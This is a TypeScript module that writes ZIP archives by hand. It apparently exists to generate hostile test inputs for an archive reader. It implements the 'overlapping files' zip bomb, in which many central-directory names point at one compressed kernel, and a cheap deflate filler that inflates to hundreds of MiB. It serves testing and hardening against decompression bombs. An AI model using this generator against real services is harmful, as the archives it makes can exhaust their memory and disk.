import { constants, crc32, deflateRawSync } from 'node:zlib';

/** Bytes already deflated, with what they inflate to: lets a 600 MiB entry cost ~600 KB to make. */
export interface Deflated {
  raw: Uint8Array;
  crc: number;
  size: number;
}

/**
 * One entry of a package. `data` is deflated unless `store`; `deflated` is taken as is;
 * `alias` writes no bytes of its own: its central-directory record points at the named earlier
 * entry's bytes (the "overlapping files" zip bomb, many names for one compressed kernel).
 */
export type PackageEntry =
  | { name: string; data: string | Uint8Array; store?: boolean }
  | { name: string; deflated: Deflated }
  | { name: string; alias: string };

/** Little-endian fields, each `[width in bytes, value]`: the ZIP records are nothing more. */
function fields(spec: readonly (readonly [2 | 4, number])[]): Buffer {
  const out = Buffer.alloc(spec.reduce((n, [width]) => n + width, 0));
  let at = 0;
  for (const [width, value] of spec) {
    if (width === 2) out.writeUInt16LE(value & 0xffff, at);
    else out.writeUInt32LE(value >>> 0, at);
    at += width;
  }
  return out;
}

interface Written {
  method: number;
  crc: number;
  compressed: number;
  size: number;
  offset: number;
}

/** The fields local and central headers share: flags, method, time, CRC, sizes, name and extra lengths. */
function described(w: Written, nameLength: number): [2 | 4, number][] {
  return [
    [2, 0],
    [2, w.method],
    [4, 0],
    [4, w.crc],
    [4, w.compressed],
    [4, Math.min(w.size, 0xffffffff)],
    [2, nameLength],
    [2, 0],
  ];
}

/**
 * The "overlapping files" zip bomb: `names[0]` holds the kernel, every other name is an alias of
 * it, so a reader inflates the kernel once per name.
 */
export function overlapping(names: readonly string[], kernel: Deflated): PackageEntry[] {
  const [first, ...rest] = names;
  if (first === undefined) return [];
  return [{ name: first, deflated: kernel }, ...rest.map((name) => ({ name, alias: first }))];
}

function body(entry: Exclude<PackageEntry, { alias: string }>): {
  bytes: Uint8Array;
  meta: Omit<Written, 'offset'>;
} {
  if ('deflated' in entry) {
    const d = entry.deflated;
    return { bytes: d.raw, meta: { method: 8, crc: d.crc, compressed: d.raw.length, size: d.size } };
  }
  const data = typeof entry.data === 'string' ? Buffer.from(entry.data) : entry.data;
  const bytes = entry.store ? data : deflateRawSync(data, { level: 9 });
  const method = entry.store ? 0 : 8;
  return { bytes, meta: { method, crc: crc32(data), compressed: bytes.length, size: data.length } };
}

/**
 * A ZIP package, written plainly (no ZIP64: sizes past 4 GiB are clipped, as hostile files do),
 * for the hostile generator and tests: entries in order, then the central directory.
 */
export function writeZip(entries: readonly PackageEntry[]): Buffer {
  const parts: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  const written = new Map<string, Written>();
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    let w: Written;
    if ('alias' in entry) {
      const target = written.get(entry.alias);
      if (!target) throw new Error(`alias ${entry.name} names no earlier entry ${entry.alias}`);
      w = target;
    } else {
      const { bytes, meta } = body(entry);
      w = { ...meta, offset };
      const local = fields([[4, 0x04034b50], [2, 20], ...described(w, name.length)]);
      parts.push(local, name, bytes);
      offset += local.length + name.length + bytes.length;
      written.set(entry.name, w);
    }
    directory.push(
      // After the fields the local header has too: comment length, disk, attributes, offset.
      fields([
        [4, 0x02014b50],
        [2, 20],
        [2, 20],
        ...described(w, name.length),
        [2, 0],
        [2, 0],
        [2, 0],
        [4, 0],
        [4, w.offset],
      ]),
      name,
    );
  }
  const dirBytes = Buffer.concat(directory);
  const end = fields([
    [4, 0x06054b50],
    [2, 0],
    [2, 0],
    [2, entries.length],
    [2, entries.length],
    [4, dirBytes.length],
    [4, offset],
    [2, 0],
  ]);
  return Buffer.concat([...parts, dirBytes, end]);
}

const MiB = 1024 * 1024;

/**
 * `head`, then `mib` MiB of `fill` repeated, then `tail`, deflated without ever holding the
 * filler: each piece is its own sync-flushed deflate stream (byte-aligned, referring only to
 * itself), and such streams may follow one another. `fill` (a byte or a string whose length
 * divides a MiB, so that the pattern runs on across pieces); the CRC runs one MiB at a time.
 */
export function deflatedFill(head: string, fill: number | string, mib: number, tail: string): Deflated {
  const pattern = typeof fill === 'number' ? Buffer.from([fill]) : Buffer.from(fill);
  if (MiB % pattern.length !== 0) throw new Error(`a fill of ${pattern.length} bytes does not tile a MiB`);
  const block = Buffer.alloc(MiB, pattern);
  const flushed = (data: Uint8Array) =>
    deflateRawSync(data, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const middle = flushed(block);
  const raw = Buffer.concat([
    flushed(Buffer.from(head)),
    ...Array.from({ length: mib }, () => middle),
    deflateRawSync(Buffer.from(tail)),
  ]);
  let crc = crc32(head);
  for (let i = 0; i < mib; i++) crc = crc32(block, crc);
  crc = crc32(tail, crc);
  return { raw, crc, size: Buffer.byteLength(head) + mib * MiB + Buffer.byteLength(tail) };
}
